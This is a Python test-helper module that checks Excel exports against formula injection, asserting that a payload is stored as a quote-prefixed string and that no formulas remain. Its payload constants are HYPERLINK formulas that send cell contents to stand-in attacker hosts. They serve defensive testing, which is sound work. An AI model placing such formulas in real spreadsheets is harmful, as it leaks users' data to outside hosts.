"""Helpers (no tests) for the formula-injection tests of every Excel export."""

from __future__ import annotations

import io
import re
import zipfile

from openpyxl import load_workbook

PAYLOAD = '=HYPERLINK("http://evil.example/?"&O2&N2,"点击查看详情")'
SHORT_PAYLOAD = '=HYPERLINK("//e.cn/"&O2)'  # fits a name (40 characters) and is not shortened


def formulas(data: bytes) -> list[str]:
    """Every <f> element of every sheet: what Excel would evaluate."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            found
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for found in re.findall(r"<f>(.*?)</f>", archive.read(name).decode())
        ]


def assert_inert(data: bytes, text: str = PAYLOAD) -> None:
    """``text`` is in the workbook as a string cell with Excel's quote
    prefix, and the workbook holds no formula at all."""
    assert formulas(data) == []
    cells = [
        cell
        for sheet in load_workbook(io.BytesIO(data)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == text
    ]
    assert cells, f"{text!r} is not in the workbook"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
